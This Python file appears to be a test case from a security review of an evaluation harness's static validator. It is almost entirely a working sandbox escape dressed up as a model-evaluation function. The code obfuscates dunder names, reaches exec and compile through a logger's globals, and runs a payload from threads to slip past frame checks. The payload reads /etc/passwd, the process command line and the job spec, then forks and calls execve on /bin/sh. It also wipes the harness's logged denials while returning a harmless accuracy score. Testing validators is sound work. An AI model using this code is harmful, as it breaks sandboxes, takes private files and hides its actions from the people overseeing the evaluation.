# source: evalpod security review (static-validator bypasses, Nov 2026): Field rename to reach builtins, compile and exec from threads
# expect: EP202
import dataclasses
import itertools
import logging


@dataclasses.dataclass
class Row:
    value: int = 0


class Settings:
    def __init__(self, **kwargs):
        for key, value in kwargs.items():
            setattr(self, key, value)


def word(codes):
    return "".join(chr(c) for c in codes)


def dunder(text):
    return word((95, 95)) + text + word((95, 95))


def read(obj, attr):
    for f in dataclasses.fields(Row):
        Settings.__init__(f, name=attr)
        return getattr(obj, f.name)


PAYLOAD = """
import sys, threading


class Finder:
    def find_spec(self, name, path=None, target=None):
        if name != "evalpod_no_such_module":
            return None
        import ctypes
        libc = ctypes.CDLL(None, use_errno=True)
        for path in (b"/job/spec.json", b"/proc/1/cmdline", b"/etc/passwd"):
            fd = libc.open(path, 0)
            buf = ctypes.create_string_buffer(2048)
            n = libc.read(fd, buf, 2048) if fd >= 0 else -1
            RESULT[path.decode()] = buf.raw[:max(n, 0)][:300].decode("utf-8", "replace")
            if fd >= 0:
                libc.close(fd)
        pid = libc.fork()
        if pid == 0:
            libc._exit(0)
        RESULT["forked_child_pid"] = pid
        RESULT["execve_rc"] = libc.execve(b"/bin/sh", None, None)
        RESULT["execve_errno"] = ctypes.get_errno()
        return None


sys.meta_path.insert(0, Finder())
try:
    import evalpod_no_such_module
except ImportError:
    pass

main = threading.main_thread().ident
frame = sys._current_frames()[main]
while frame is not None and frame.f_code.co_name != "main":
    frame = frame.f_back
armed = frame.f_locals["armed"]
RESULT["denials_hidden"] = len(armed[0].denials)
armed[0].denials.clear()
with open("/out/violation.json", "w") as handle:
    pass
"""


def evaluate_model(model):
    logger = logging.getLogger("eval")
    g = read(read(read(logger, dunder("class")), dunder("init")), dunder("globals"))
    threading_mod, sys_mod, os_mod = g["threading"], g["sys"], g["os"]
    builtins = g[dunder("builtins")]
    make = builtins[word((99, 111, 109, 112, 105, 108, 101))]
    run = builtins[word((101, 120, 101, 99))]
    result = {}
    try:
        result["listed"] = os_mod.listdir("/etc")
    except PermissionError as exc:
        result["denied"] = str(exc)
    # 2. compile the payload under a runtime file name, from a thread (no script frame near)
    fake = read(sys_mod, "base_prefix") + "/lib/python3.11/evalpod_fake.py"
    codes = []
    worker = threading_mod.Thread(target=codes.extend,
                                  args=(itertools.starmap(make, [(PAYLOAD, fake, "exec")]),))
    worker.start()
    worker.join()
    # 3. run it, again from a thread: every frame on its stack is "the runtime's"
    namespace = {"RESULT": result}
    worker = threading_mod.Thread(target=run, args=(codes[0], namespace))
    worker.start()
    worker.join()
    answer = model.generate(["2 + 2 ="], max_new_tokens=4)[0]
    return {"accuracy": float("4" in answer), "trace": {k: str(v) for k, v in result.items()}}
